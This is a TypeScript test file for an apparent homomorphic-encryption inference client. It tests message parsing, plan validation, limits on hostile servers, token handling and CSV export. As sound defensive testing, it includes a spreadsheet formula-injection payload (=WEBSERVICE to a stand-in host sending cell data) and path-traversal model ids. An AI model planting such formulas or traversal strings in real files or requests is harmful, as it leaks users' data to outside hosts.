/** Plans, messages, tables and HTTP without a browser: what a hostile server may send, and what the Python tests share. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";

import { numbers, readCells, writeTable } from "../src/csv.ts";
import { cryptographic, encode } from "../src/embedding.ts";
import { AskError, TokenError } from "../src/errors.ts";
import { post } from "../src/http.ts";
import { ask, Client, type Connection, connect, startSeal } from "../src/index.ts";
import { layoutOf } from "../src/layouts.ts";
import { digestOf, readReply, toHex, writeRequest } from "../src/message.ts";
import { readPlan } from "../src/plan.ts";
import { Context, SecretKey } from "../src/seal.ts";
import { joined, Masks } from "../src/seeds.ts";

const read = (name: string) => JSON.parse(readFileSync(new URL(`../../../tests/vectors/${name}.json`, import.meta.url), "utf8"));
const { batch } = read("plans");
const wasm = readFileSync(new URL("../node_modules/node-seal/dist/seal_throws.wasm", import.meta.url));
const plan = readPlan(batch.plan, batch.sha256);

/** The residues of the vectors: number i is (2654435761 i + 12345) mod q. */
function synthetic(shape: readonly number[]): Uint32Array<ArrayBuffer> {
  const ring = shape[3]!;
  const count = shape.reduce((a, b) => a * b);
  return Uint32Array.from({ length: count }, (_, i) => {
    const q = plan.chain.primes[Math.floor(i / ring) % plan.chain.primes.length]!;
    return Number((2654435761n * BigInt(i) + 12345n) % q);
  });
}

test("messages are those of the shared vectors, byte for byte", async () => {
  const [request, reply] = read("messages");
  const layout = layoutOf(plan);
  const seed = Uint8Array.from({ length: 32 }, (_, i) => 32 + i);
  const body = await writeRequest(plan.sha256, layout.request(plan), joined([seed, new Uint8Array(synthetic(request.shape).buffer)]));
  assert.equal(toHex(body.subarray(0, 76)), request.header);
  assert.equal(body.length, request.bytes);
  assert.equal(digestOf(body), request.sha256);

  const residues = synthetic(reply.shape);
  const data = new Uint8Array(reply.bytes);
  data.set(Buffer.from(reply.header, "hex"));
  data.set(new Uint8Array(residues.buffer), 76);
  data.set(Buffer.from(reply.sha256, "hex"), reply.bytes - 32);
  const open = (bytes: Uint8Array, id = request.sha256) => readReply(bytes.slice().buffer, plan.sha256, id, layout.reply(plan));
  assert.deepEqual(await open(data), new Uint8Array(residues.buffer));
  await assert.rejects(open(data, reply.sha256), /answers another request/);
  for (const [place, wanted] of [[0, /not a quad4fhe message/], [8, /another version/], [10, /not a reply/], [12, /another plan/], [44, /another request/], [5000, /damaged/]] as const) {
    const changed = data.slice();
    changed[place]! ^= 1;
    await assert.rejects(open(changed), wanted);
  }
});

test("a plan of a layout that is not spoken is refused", () => {
  assert.throws(() => layoutOf(readPlan({ ...batch.plan, layout: "packed" }, batch.sha256)), /does not speak layout packed/);
});

test("what Python refuses in a plan is refused here", () => {
  const changes: [(plan: any) => void, RegExp][] = [
    [(plan) => (plan.chain.primes = [249857, 249857]), /not distinct/],
    [(plan) => (plan.chain.primes = [249857, 12289]), /not distinct/], // SEAL's own prime
    [(plan) => (plan.chain.primes = [249857, 188416]), /188416 is not a prime of its ring/],
    [(plan) => (plan.chain.primes = [249857, 12289 * 40961]), /is not a prime of its ring/],
    [(plan) => (plan.chain.primes = Array(1000).fill(12289)), /1 to 55 primes/],
    [(plan) => (plan.chain.primes = [4294955009, 4294828033]), /64 bits of modulus are not secure in a ring of 2048/],
    [(plan) => (plan.chain.ring = 512), /ring of 512/],
    [(plan) => ((plan.scales.x = 40), (plan.scales.w = 0), (plan.scales.v = 0), (plan.domain.bound = 1e-50)), /could overflow/],
    [(plan) => ((plan.scales = { x: 36, w: 0, v: 0 }), (plan.domain.bound = 1e-30)), /could overflow/],
    [(plan) => ((plan.scales = { x: 17, w: 0, v: 0 }), (plan.domain.bound = 0.01), (plan.domain.high[1] = 2 ** 20)), /too large for its scale/],
    [(plan) => ((plan.domain.low[0] = 1e70), (plan.domain.high[0] = 1e70)), /box is not a number/],
    [(plan) => (plan.domain.low[0] = 2), /box is empty/],
    [(plan) => (plan.feature_names = ["a"]), /1 names for 2/],
    [(plan) => (plan.class_names = ["a", "b", "c"]), /3 names for 2/],
    [(plan) => (plan.promise = { reliable: { level: 0.9, threshold: 1, power: 3 } }), /reliable decisions/],
    [(plan) => (plan.model_id = "../../x"), /model id/],
  ];
  for (const [change, wanted] of changes) {
    const changed = structuredClone(batch.plan);
    change(changed);
    assert.throws(() => layoutOf(readPlan(changed, batch.sha256)), (error: Error) => error instanceof AskError && wanted.test(error.message), String(wanted));
  }
});

const json = (value: unknown, headers = {}) => new Response(JSON.stringify(value), { headers });

/** A server of one model with this answer to GET plan. */
function fake(models: unknown, answer: unknown): typeof fetch {
  return (async (url: URL) => (url.pathname === "/models" ? json(models) : json(answer, { "Quad4FHE-Plan": batch.sha256 }))) as unknown as typeof fetch;
}

test("a server that sends the plan of another model or layout than was asked for is not used", async () => {
  const url = "https://example.org";
  const own = { models: [{ id: plan.modelId, layouts: ["batch"] }] };
  assert.equal((await connect({ url, fetch: fake(own, batch.plan) })).plan.modelId, plan.modelId);
  const other = { models: [{ id: "0".repeat(64), layouts: ["batch"] }] };
  await assert.rejects(connect({ url, fetch: fake(other, batch.plan) }), /is for model b5296e428768/);
  for (const models of [null, {}, { models: [null] }, { models: [{ id: "../x", layouts: ["batch"] }] }, { models: [{ id: plan.modelId }] }]) {
    await assert.rejects(connect({ url, fetch: fake(models, batch.plan) }), /not a quad4fhe server/);
  }
});

test("no more is read than the plan allows, whatever length was announced", async () => {
  let given = 0;
  const endless = () =>
    new ReadableStream({
      pull(controller) {
        given += 1;
        controller.enqueue(new Uint8Array(1000));
      },
    });
  for (const status of [200, 400]) {
    given = 0;
    const service = { url: "https://example.org", fetch: (async () => new Response(endless(), { status })) as typeof fetch };
    await assert.rejects(post(service, "x", new Uint8Array(1), 5000), /more than the \d+ bytes/);
    assert.ok(given < 100);
  }
});

test("a token does not travel in the clear, and a missing one has an error of its own", async () => {
  const answering = (async () => json({ error: "no" }, {})) as typeof fetch;
  const refusing = (async () => new Response("{}", { status: 401 })) as typeof fetch;
  const send = (url: string, fetch: typeof globalThis.fetch) => post({ url, token: "secret", fetch }, "x", new Uint8Array(1), 5000);
  await assert.rejects(send("http://example.org", answering), /in the clear; use https/);
  for (const url of ["https://example.org", "http://127.0.0.1:8443", "http://localhost:1", "http://[::1]:1"]) await send(url, answering);
  await assert.rejects(send("https://example.org", refusing), TokenError);
});

test("samples outside a box of the server's choice are refused after everything was sent, others before", async () => {
  for (const pinned of [false, true]) {
    let sent = 0;
    const server = { plan, pinned, send: async () => (sent++, new ArrayBuffer(0)) } as unknown as Connection;
    const client = { plan, replyBytes: 1, encrypt: async () => ({ id: "", body: new Uint8Array(0), samples: 1 }) } as unknown as Client;
    await assert.rejects(ask(client, server, [[9, 0]]), pinned ? /; correct the value/ : /ask again$/);
    assert.equal(sent, pinned ? 0 : 1);
    await assert.rejects(ask(client, server, [[Number.NaN, 0]]), /is not a number/);
    assert.equal(sent, pinned ? 0 : 1);
  }
});

const start = () => startSeal(wasm.buffer.slice(wasm.byteOffset, wasm.byteOffset + wasm.length) as ArrayBuffer);

test("each encryption takes the next mask of its key's seed, and decrypts with no other", async () => {
  const context = new Context(await start(), plan.chain);
  const { primes, ring } = plan.chain;
  const values = new Float64Array(ring / 2).fill(3);
  const residues = context.residues(encode(values, ring, 2 ** 20, cryptographic));
  const [key, stranger] = [await SecretKey.fresh(context), await SecretKey.fresh(context)];
  assert.notDeepEqual(key.seed, stranger.seed);
  const firsts = [await key.encrypt(residues), await key.encrypt(residues)];
  const far = async (reader: SecretKey, first: Uint32Array, number: number) => {
    const mask = await (await Masks.of(key.seed)).narrow(number, primes, ring);
    const slots = reader.decrypt(Uint32Array.from([...first, ...mask]), 2, 2 ** 20);
    return Math.max(...slots.map((slot) => Math.abs(slot - 3)));
  };
  for (const [number, first] of firsts.entries()) {
    assert.ok((await far(key, first, number)) < 1e-2);
    assert.ok((await far(key, first, 1 - number)) > 1);
    assert.ok((await far(stranger, first, number)) > 1);
  }
});

test("an encryption of zero is its mask times the secret, less a small error", async () => {
  const context = new Context(await start(), plan.chain);
  const { primes, ring } = plan.chain;
  const key = await SecretKey.fresh(context);
  await key.zero();
  const first = await key.zero();
  const mask = context.fromNtt(await (await Masks.of(key.seed)).wide(1, primes, ring));
  const secret = key.coefficients();
  assert.ok(new Set(secret).size === 3);
  key.keepCoefficients();
  for (const [place, q] of primes.entries()) {
    for (const at of [0, 1, 77, ring - 1]) {
      let sum = first[place * ring + at]!;
      for (let i = 0; i < ring; i++) sum += (i <= at ? 1n : -1n) * BigInt(secret[(at - i + ring) % ring]!) * mask[place * ring + i]!;
      const error = ((sum % q) + q) % q;
      assert.ok(error <= 21n || error >= q - 21n, String(error));
    }
  }
});

test("every request has a key of its own, and its reply is read once", async () => {
  const client = new Client(await start(), plan);
  const [one, two] = [await client.encrypt([[0, 0]]), await client.encrypt([[0, 0]])];
  assert.notDeepEqual(one.body.subarray(76, 108), two.body.subarray(76, 108));
  assert.notEqual(one.id, two.id);
  client.forget();
  await assert.rejects(client.decide(new ArrayBuffer(0), one.id), /no open request/);
});

test("private replies have one more encryption in the request, and a flooding that keeps its word", () => {
  const changed = structuredClone(batch.plan);
  Object.assign(changed.settings, { replies: "private", flood: 60, security: 40.5 });
  const made = readPlan(changed, batch.sha256);
  assert.equal(layoutOf(made).request(made).shape[0], plan.features + 1);
  changed.settings.security = 39;
  assert.throws(() => layoutOf(readPlan(changed, batch.sha256)), /are not private/);
});

const readTable = (text: string, { featureNames, features }: typeof plan) => numbers(readCells(text, { names: featureNames, count: features, text: false }));

test("a table: names, separators, and a first row that is a sample with a mistake", () => {
  const named = { ...plan, featureNames: ["width", "2"] };
  const rows = [[1, 2], [3, 4]].map((row) => Float64Array.from(row));
  assert.deepEqual(readTable("1,2\n3,4\n", plan), rows);
  assert.deepEqual(readTable("a;b\r\n1;2\r\n3;4", plan), rows);
  assert.deepEqual(readTable("2,width\n2,1\n4,3", named), rows);
  assert.throws(() => readTable("1,NA\n3,4", plan), /line 1, column 2: "NA" is not a number/);
  assert.throws(() => readTable("1,\n3,4", plan), /line 1, column 2: "" is not a number/);
  assert.throws(() => readTable("a,b\n1,2", named), /no column "width"/);
});

test("a table with text: quotes, missing values, and a header only by its names", () => {
  const columns = { names: ["age", "town"], count: 2, text: true };
  assert.deepEqual(readCells('61,"Aarhus, city"\n,"the ""old"" town"\n7, Turku ', columns).rows, [["61", "Aarhus, city"], ["", 'the "old" town'], ["7", "Turku"]]);
  assert.deepEqual(readCells("town,age\nBergen,5", columns).rows, [["5", "Bergen"]]);
  assert.deepEqual(readCells("unknown,Bergen", columns).rows, [["unknown", "Bergen"]]);
  assert.deepEqual(readCells("a, b; c\nd", { names: ["words"], count: 1, text: true }).rows, [["a, b; c"], ["d"]]);
  assert.deepEqual(readCells("1;;3", { names: null, count: 3, text: false }).rows, [["1", "", "3"]]);
  assert.throws(() => readCells("1,2,3", columns), /line 1 has 3 values, the model has 2 inputs/);
});

test("a name that a spreadsheet would compute is written as text", () => {
  const table = writeTable(["score of =A1"], [[`=WEBSERVICE("http://x/?"&B2)`, -1.5], ["@x", 2], ["+1", 3], ["\t=x", 4], ["-", 5], ["plain", 6]]);
  const wanted = ["score of =A1", `"'=WEBSERVICE(""http://x/?""&B2)",-1.5`, "'@x,2", "'+1,3", `"'\t=x",4`, "'-,5", "plain,6"];
  assert.deepEqual(table.trim().split("\n"), wanted);
});
